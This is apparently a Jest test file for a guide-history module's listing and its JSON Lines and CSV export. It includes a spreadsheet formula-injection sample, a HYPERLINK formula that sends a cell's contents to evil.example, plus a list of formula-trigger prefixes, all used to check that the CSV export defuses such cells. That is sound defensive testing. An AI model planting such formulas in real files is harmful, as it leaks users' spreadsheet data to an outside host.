import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { Chronicle } from '../../test/support/chronicle.js';
import { exportHistory } from './history-export.js';
import { History, type HistoryEntry } from './history.queries.js';

let chronicle: Chronicle;
let history: History;
let editor: string;
let reviewer: string;
let guide: string;
let other: string;

const day = 86_400_000;
const words = '=HYPERLINK("https://evil.example?" & A1, "open me")';

beforeAll(async () => {
  chronicle = await Chronicle.open();
  history = new History(chronicle.database);
  [editor, reviewer] = await Promise.all([chronicle.person('editor'), chronicle.person('reviewer')]);
  guide = await chronicle.guide(editor);
  other = await chronicle.guide(editor, 'Eyelid surgery');
  await chronicle.fact(guide, 'guide.created', { by: editor, payload: { slug: 'hair' } });
  await chronicle.fact(other, 'guide.created', { by: editor, payload: { slug: 'eyelids' } });
  chronicle.clock.travelBy(day);
  await chronicle.fact(guide, 'guide.held', {
    by: reviewer,
    note: words,
    moves: [{ kind: 'guide', id: guide, from: 'live', to: 'held' }],
  });
  chronicle.clock.travelBy(day);
  await chronicle.fact(guide, 'guide.stale', { payload: { dueOn: '2027-03-02' } });
});
afterAll(() => chronicle.close());

const names = (entries: HistoryEntry[]): string[] => entries.map(({ name }) => name);

describe('the history', () => {
  it('of a guide comes newest first, in words, with who and why', async () => {
    const entries = await history.list({ subjectKind: 'guide', subjectId: guide }, undefined, 10);
    expect(names(entries)).toEqual(['guide.stale', 'guide.held', 'guide.created']);
    expect(entries[1]).toMatchObject({
      number: 2,
      label: 'Held',
      actorId: reviewer,
      actorName: expect.stringContaining('Person'),
      note: words,
    });
    expect(entries[0]).toMatchObject({ actorId: null, actorName: null, note: null });
  });

  it('is filtered by fact, person and time, together', async () => {
    const now = chronicle.clock.now().getTime();
    const names_ = async (filter: Parameters<History['list']>[0]) => names(await history.list(filter, undefined, 10));
    expect(await names_({ name: 'guide.created' })).toEqual(['guide.created', 'guide.created']);
    expect(await names_({ actorId: reviewer })).toEqual(['guide.held']);
    expect(await names_({ from: new Date(now - 1.5 * day), to: new Date(now - 0.5 * day) })).toEqual(['guide.held']);
    expect(await names_({ actorId: reviewer, name: 'guide.created' })).toEqual([]);
    expect(await names_({ subjectKind: 'account' })).toEqual([]);
  });

  it('goes on where the last page ended', async () => {
    const [newest] = await history.list({}, undefined, 1);
    expect(names(await history.list({}, newest!.id, 2))).toEqual(['guide.held', 'guide.created']);
  });
});

describe('the export', () => {
  const exported = (format: 'jsonl' | 'csv') => text(exportHistory(history.all({ subjectId: guide }), format));

  it('as JSON Lines has every event, oldest first, with its exact words and hashes', async () => {
    const lines = (await exported('jsonl'))
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, unknown>);
    expect(lines.map((line) => line['name'])).toEqual(['guide.created', 'guide.held', 'guide.stale']);
    expect(lines[1]).toMatchObject({
      note: words,
      previousHash: lines[0]?.['hash'],
      moves: [{ kind: 'guide', id: guide, from: 'live', to: 'held' }],
    });
  });

  it('as CSV follows RFC 4180, and no cell starts a formula', async () => {
    const csv = await exported('csv');
    const lines = csv.split('\r\n');
    expect(lines[0]).toMatch(/^id,at,subjectKind,subjectId,number,name,label,/);
    expect(lines).toHaveLength(5);
    expect(csv).toContain(`,"'=HYPERLINK(""https://evil.example?"" & A1, ""open me"")",`);
    expect(lines[2]).toContain(chronicle.clock.now().toISOString().slice(0, 4));
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\nx', '\0x', '＝1'])(
    'defuses a cell that starts with %j',
    async (note) => {
      const entry = { id: 1, note } as HistoryEntry;
      const csv = await text(
        exportHistory(
          (async function* () {
            yield entry;
          })(),
          'csv',
        ),
      );
      expect(csv.split('\r\n').slice(1).join('\r\n')).toMatch(/^1,,,,,,,,,,"?'/);
    },
  );

  it('keeps minus signs of numbers, quotes, commas and line breaks as they are', async () => {
    const entry = { id: 1, number: -5, note: 'He said "no",\nthen left' } as HistoryEntry;
    const csv = await text(
      exportHistory(
        (async function* () {
          yield entry;
        })(),
        'csv',
      ),
    );
    expect(csv).toContain('1,,,,-5,,,,,,"He said ""no"",\nthen left",');
  });

  it('reads page by page and leaves out what happens after it began', async () => {
    const before = (await history.list({}, undefined, 200)).length;
    const entries = history.all({});
    const seen: number[] = [];
    for await (const entry of entries) {
      if (seen.length === 0) await chronicle.fact(other, 'guide.renamed', { payload: { from: 'a', to: 'b' } });
      seen.push(entry.id);
    }
    expect(seen).toHaveLength(before);
  });

  it('breaks off with an error rather than ending early', async () => {
    const failing = (async function* () {
      yield* await history.list({}, undefined, 1);
      throw new Error('the database went away');
    })();
    await expect(text(exportHistory(failing, 'csv'))).rejects.toThrow('went away');
  });
});
